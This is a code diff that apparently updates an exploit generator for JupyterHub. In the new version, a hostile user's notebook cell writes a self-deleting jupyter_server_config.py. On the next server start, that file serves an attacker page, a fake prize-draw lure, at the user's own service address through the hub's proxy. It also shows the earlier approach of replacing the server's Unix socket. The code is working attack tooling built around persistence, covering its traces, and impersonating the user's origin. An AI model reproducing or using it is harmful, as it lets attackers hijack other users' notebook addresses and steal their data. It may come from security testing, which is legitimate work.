@@ -1,20 +1,16 @@
-"""Runs in a user's kernel: takes the user's own address and serves an attack from it.
+"""Runs in a user's kernel: leaves what takes the user's own address at the next start.
 
-The notebook server's socket belongs to its user, who can put another server in its
-place: what the proxy then shows at that address is entirely the user's.
+Jupyter runs the configuration that it finds in its owner's home. This one never comes back:
+it serves an attack at the port that leads to the user's own address, so that what the proxy
+then shows there is entirely the user's. It removes itself, so that the start after is as before.
 """
 
 SERVER = r"""
-import os, re, socketserver, threading
-from http.server import BaseHTTPRequestHandler
-
-with open("/proc/net/unix") as sockets:
-    path = next(line.split()[-1] for line in sockets if line.rstrip().endswith("server.sock"))
+import os
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from urllib.parse import urlsplit
 
 class Handler(BaseHTTPRequestHandler):
-    def address_string(self):
-        return "somebody"
-
     def do_GET(self):
         raw = PAGE.encode()
         self.send_response(200)
@@ -26,14 +22,19 @@ class Handler(BaseHTTPRequestHandler):
     def log_message(self, *args):
         pass
 
-class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
-    daemon_threads = True
+os.unlink(__file__)
+own = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
+ThreadingHTTPServer((own.hostname, own.port), Handler).serve_forever()
+"""
 
-os.unlink(path)
-hostile = Server(path, Handler)
-os.chmod(path, 0o777)
-threading.Thread(target=hostile.serve_forever, daemon=True).start()
-print("serving at", path)
+CELL = r"""
+from pathlib import Path
+from jupyter_core.paths import jupyter_config_dir
+
+place = Path(jupyter_config_dir()) / "jupyter_server_config.py"
+place.parent.mkdir(parents=True, exist_ok=True)
+place.write_text(CONFIGURATION)
+print("left at", place)
 """
 
 PAGE = r"""<!doctype html><title>Prize draw</title><h1>You have won</h1>
@@ -97,6 +98,7 @@ window.done = attack();
 
 
 def code(desk: str, permit: str, file: str) -> str:
-    """What the hostile user runs in a cell."""
+    """What the hostile user runs in a cell, before starting the server once more."""
     page = PAGE.replace("DESK", desk).replace("PERMIT", permit).replace("FILE", file)
-    return f"PAGE = {page!r}\n{SERVER}"
+    configuration = f"PAGE = {page!r}\n{SERVER}"
+    return f"CONFIGURATION = {configuration!r}\n{CELL}"
